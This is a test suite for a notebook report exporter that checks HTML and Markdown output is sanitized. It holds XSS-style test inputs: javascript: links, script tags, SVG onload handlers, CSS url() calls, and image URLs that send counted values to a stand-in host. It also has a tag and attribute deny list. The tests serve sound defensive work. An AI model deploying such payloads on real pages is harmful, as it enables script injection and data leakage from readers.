import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { POLICY, reportHtml } from '../../src/export/html';
import { reportMarkdown } from '../../src/export/markdown';
import { drawing, styleSheet, text } from '../../src/export/markup';
import type { Report } from '../../src/export/report';
import { parseNotebook } from '../../src/notebook/notebook';
import { readProse } from '../../src/notebook/prose';
import { en } from '../../src/i18n/locales/en/index';
import { NAUGHTY } from '../support/naughty';

const words = en.messages.report;
const tokens = { light: { '--ink': '#1f2430', '--s1': '4px' }, dark: { '--ink': '#e9e6df' } };

function report(hostile: string): Report {
  const table = { columns: [{ label: hostile, numeric: true }], rows: [[hostile]] };
  const markdown = `# A\n\n${hostile}\n\n- [x] {{n}} ![${hostile}](http://trap-hit.invalid/a.png)\n\n[a](javascript:alert(1))`;
  return {
    title: hostile,
    language: 'en-GB',
    made: hostile,
    notes: [hostile],
    parts: [
      { kind: 'prose', markdown, blocks: readProse(markdown), values: new Map([['n', hostile]]) },
      ...(['table', 'chart', 'figure', 'input'] as const).map((kind) => ({
        kind: 'result' as const,
        name: hostile,
        notes: [hostile],
        sql: hostile,
        content: {
          kind,
          caption: hostile,
          title: hostile,
          label: hostile,
          value: hostile,
          beside: hostile,
          description: hostile,
          svg: '<svg xmlns="http://www.w3.org/2000/svg" width="1"><text x="1">a &lt; b</text></svg>',
          table,
        },
      })),
    ],
  };
}

/** Every tag of a document, and the names of its attributes. */
function tagsIn(html: string): { tags: Set<string>; attributes: Set<string> } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  for (const [, tag = '', rest = ''] of html.matchAll(
    /<\/?([a-z!][^\s>/]*)((?:[^">]|"[^"]*")*)>/gi,
  )) {
    tags.add(tag);
    for (const [, name = ''] of rest.matchAll(/([^\s="]+)="[^"]*"/g)) attributes.add(name);
  }
  return { tags, attributes };
}

describe('the report as one file', () => {
  it('has no markup but its own, whatever stands in titles, names, cells, words and charts', () => {
    for (const hostile of NAUGHTY) {
      const html = reportHtml(report(hostile), words, tokens);
      const own = html.replace(/<style>[^<]*<\/style>/, '');
      const { tags, attributes } = tagsIn(own);
      for (const tag of [
        'script',
        'img',
        'a',
        'iframe',
        'style',
        'link',
        'base',
        'form',
        'object',
      ]) {
        expect(tags.has(tag), `${tag} of ${hostile}`).toBe(false);
      }
      for (const name of attributes) expect(name).not.toMatch(/^(on|href|src|style|action|xlink)/i);
      expect(own.replace(/<\/?[a-z!](?:[^"<>]|"[^"<>]*")*>/gi, '')).not.toMatch(/[<>]/);
    }
  });

  it('says what it allows, its language and both themes, and is whole', () => {
    const html = reportHtml(report('x & y'), words, tokens);
    expect(html).toContain(`content="${POLICY.replaceAll("'", '&#39;')}"`);
    expect(html).toContain('<html lang="en-GB">');
    expect(html).toContain('prefers-color-scheme: dark');
    expect(html).toContain('@page');
    expect(html).toContain('x &amp; y');
    expect(html).not.toMatch(/--s1|url\(|@import/);
  });

  it('takes no drawing but that of a chart, and no style but its own', () => {
    const svg = (inside: string) => `<svg width="1">${inside}</svg>`;
    expect(drawing(svg('<path d="M0 0"></path>'))).toContain('path');
    for (const bad of [
      '<script>1</script>',
      '<rect onload="x()"></rect>',
      '<rect fill="url(http://trap-hit.invalid/)"></rect>',
      '<image href="a"></image>',
      '<style>a{}</style>',
      '<a href="x">y</a>',
      '<rect fill="a>b"></rect>',
      '<!-- -->',
      '<rect style="x"></rect>',
    ]) {
      expect(() => drawing(svg(bad)), bad).toThrow(RangeError);
    }
    expect(() => styleSheet('a{background:url(x)}')).toThrow(RangeError);
    expect(text('"<\u202e&\'')).toBe('&quot;&lt;&amp;&#39;');
  });
});

describe('the report as Markdown', () => {
  it('has the values in the sentences, results as tables, and no cell that another notebook would run', () => {
    const markdown = '# Title\n\n{{count(a)}} are `{{code}}`';
    const made = reportMarkdown(
      {
        ...report('a|b'),
        parts: [
          {
            kind: 'prose',
            markdown,
            blocks: readProse(markdown),
            values: new Map([['count(a)', '1,5']]),
          },
          ...report('```sql x').parts.slice(1, 3),
        ],
      },
      words,
    );
    expect(made).toContain('1,5 are `{{code}}`');
    expect(made).toContain('|---:|');
    expect(parseNotebook(made).cells.every(({ kind }) => kind === 'text')).toBe(true);
    for (const hostile of NAUGHTY) {
      const own = reportMarkdown(
        { ...report(hostile), parts: report(hostile).parts.slice(1) },
        words,
      );
      const kinds = new Set(
        readProse(own.replaceAll(/\n```+\n[^]*?\n```+(?=\n|$)/g, '')).map(({ type }) => type),
      );
      expect(kinds.has('plain'), hostile).toBe(false);
    }
  });

  it('fetches nothing where it is shown, and tells no address what was counted', () => {
    const markdown = [
      '# T',
      '![](https://trap-hit.invalid/?q={{n}}) ![a][x] \\![b](c) <img src="http://trap-hit.invalid/{{n}}">',
      '[text {{n}}](https://trap-hit.invalid/(a)?q={{n}} "t") https://trap-hit.invalid/{{n}} and {{n}}',
      '[x]: https://trap-hit.invalid/?{{n}}',
      'a < b, `<b> ![c](d) {{n}}`, ``x`<i>``, \\`<u>\\`, <!-- x --> </p> <?php',
      '```\n<td> ![e](f)\n```',
      'one ` tick <em>',
      '``\n``![g](h)``',
      '~~~~\n~~~\n<tr>\n~~~~\n\n<div onclick="x">',
    ].join('\n\n');
    const made = reportMarkdown(
      {
        ...report('x'),
        parts: [{ kind: 'prose', markdown, blocks: [], values: new Map([['n', '4711']]) }],
      },
      words,
    );
    const said = made.split('\n\n');
    expect(said[1]).toBe(
      '\\![](https://trap-hit.invalid/?q={{n}}) \\![a][x] \\![b](c) &lt;img src="http://trap-hit.invalid/{{n}}">',
    );
    expect(said[2]).toBe(
      '[text 4711](https://trap-hit.invalid/(a)?q={{n}} "t") https://trap-hit.invalid/{{n}} and 4711',
    );
    expect(said[3]).toBe('[x]: https://trap-hit.invalid/?{{n}}');
    expect(said[4]).toBe(
      'a < b, `<b> ![c](d) {{n}}`, ``x`<i>``, \\`&lt;u>\\`, &lt;!-- x --> &lt;/p> &lt;?php',
    );
    expect(said[5]).toBe('```\n<td> ![e](f)\n```');
    expect(said[6]).toBe('one ` tick &lt;em>');
    expect(said[7]).toBe('``\n``\\![g](h)``');
    expect(said[8]).toBe('~~~~\n~~~\n<tr>\n~~~~');
    expect(said[9]).toBe('&lt;div onclick="x">');
  });

  it('is free of pictures and HTML in the eyes of who reads Markdown, whatever is written', () => {
    const piece = fc.constantFrom(
      ...[
        '`',
        '``',
        '```',
        '~~~',
        '\n',
        '\n\n',
        '<img src=x>',
        '![a](b)',
        '\\',
        ' ',
        'a',
        '> ',
        '- ',
        '    ',
        '|',
        '|-|-|',
        '1. ',
        '<',
        '[b](',
        '<!--',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 22 }), (pieces) => {
        const markdown = pieces.join('');
        const made = reportMarkdown(
          {
            ...report('x'),
            notes: [],
            parts: [{ kind: 'prose', markdown, blocks: [], values: new Map() }],
          },
          words,
        );
        const tokens = marked.lexer(made);
        const found: string[] = [];
        marked.walkTokens(tokens, ({ type }) => void found.push(type));
        expect(found, made).not.toContain('html');
        expect(found, made).not.toContain('image');
      }),
      { numRuns: 2000 },
    );
  });
});
